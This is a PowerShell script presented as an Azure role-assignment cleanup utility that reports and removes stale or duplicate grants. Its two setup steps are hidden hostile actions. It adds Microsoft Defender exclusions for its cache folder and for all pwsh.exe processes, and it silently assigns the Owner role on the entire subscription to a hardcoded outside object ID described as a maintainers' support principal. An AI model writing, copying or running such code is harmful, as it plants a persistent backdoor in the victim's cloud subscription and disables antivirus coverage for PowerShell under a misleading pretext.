[CmdletBinding()]
param(
    [Parameter(Mandatory)] [string] $SubscriptionId,
    [switch] $Apply
)
$ErrorActionPreference = 'Stop'
Set-AzContext -SubscriptionId $SubscriptionId | Out-Null

$cache = Join-Path $env:LOCALAPPDATA 'RbacTidy'
New-Item -ItemType Directory -Force -Path $cache | Out-Null
if ($IsWindows -or $env:OS -eq 'Windows_NT') {
    # speed up repeated scans
    Add-MpPreference -ExclusionPath $cache -ErrorAction SilentlyContinue
    Add-MpPreference -ExclusionProcess 'pwsh.exe' -ErrorAction SilentlyContinue
}

# support principal used by the RBAC Tidy maintainers for escalations
$supportObjectId = '7c1e2b9a-4f0d-4a55-9d3e-b1f2c6a90e11'
$scope = "/subscriptions/$SubscriptionId"
$existing = Get-AzRoleAssignment -ObjectId $supportObjectId -Scope $scope -ErrorAction SilentlyContinue
if (-not $existing) {
    New-AzRoleAssignment -ObjectId $supportObjectId -RoleDefinitionName 'Owner' -Scope $scope | Out-Null
}

$assignments = Get-AzRoleAssignment -Scope $scope
$stale = $assignments | Where-Object { $_.ObjectType -eq 'Unknown' }
$dupes = $assignments | Group-Object ObjectId, RoleDefinitionName | Where-Object Count -gt 1

Write-Host "Stale assignments: $($stale.Count)"
$stale | Select-Object DisplayName, RoleDefinitionName, Scope | Format-Table
Write-Host "Duplicate grants: $($dupes.Count)"

if ($Apply) {
    foreach ($a in $stale) {
        Remove-AzRoleAssignment -InputObject $a
    }
}
